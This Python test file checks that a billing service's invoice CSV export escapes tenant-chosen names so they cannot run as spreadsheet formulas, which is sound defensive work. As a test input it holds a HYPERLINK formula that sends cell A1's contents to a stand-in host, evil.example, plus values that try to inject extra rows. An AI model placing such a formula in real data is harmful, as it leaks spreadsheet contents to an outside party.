"""Invoice CSVs: tenant-chosen names cannot become spreadsheet formulas."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from billing.charges import Line
from billing.export import CSV_COLUMNS, as_csv, cell
from billing.invoices import Invoice
from billing.periods import Period

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"open")'


def invoice(deployment: str, team: str, project: str, user_id: str, model: str) -> Invoice:
    line = Line(item=f"tokens:openai/{model}:input", description=f"{model}, input tokens",
                unit="token", usage=Decimal(1500), included=Decimal(1000),
                quantity=Decimal(500), unit_price=Decimal("-0.002"), amount=Decimal("-1"))
    return Invoice(id="inv-1", period=Period(2026, 11), subject=f"user:{user_id}",
                   deployment=deployment, user_id=user_id, attempt=1, team=team,
                   project=project, plan="pro", region="us-east", currency="USD",
                   amount=Decimal("-1"), amount_due=Decimal(0), status="draft",
                   lines=(line,), generated_at=0, status_changed_at=0, version=1)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_is_made_text(start: str) -> None:
    assert cell(f"{start}1+1") == f"'{start}1+1"
    assert cell(f"a{start}1") == f"a{start}1"


def test_tenant_chosen_names_are_escaped_and_quoted() -> None:
    text = as_csv([invoice(HYPERLINK, "+team\r\nnext,row", "@SUM(1)", "-2+3", "\tgpt")])
    (row,) = rows(text)
    assert row["deployment"] == "'" + HYPERLINK
    assert row["team"] == "'+team\r\nnext,row"  # quoted: still one cell
    assert row["project"] == "'@SUM(1)"
    assert row["user_id"] == "'-2+3"
    assert row["subject"] == "user:-2+3"
    assert row["item"] == "tokens:openai/\tgpt:input"
    assert row["description"] == "'\tgpt, input tokens"
    # Numbers are meterstream's own, negative ones included.
    assert (row["unit_price"], row["amount"], row["invoice_amount"]) == ("-0.002", "-1", "-1")
    numbers = {"attempt", "invoice_amount", "amount_due", "usage", "included", "quantity",
               "unit_price", "amount"}
    for column, value in row.items():
        assert column in numbers or not value.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert list(row) == list(CSV_COLUMNS)


def test_ordinary_names_are_unchanged() -> None:
    (row,) = rows(as_csv([invoice("happy-otter-123", "team a", "web", "u1", "gpt-4o")]))
    assert (row["deployment"], row["team"], row["project"], row["user_id"]) == (
        "happy-otter-123", "team a", "web", "u1")
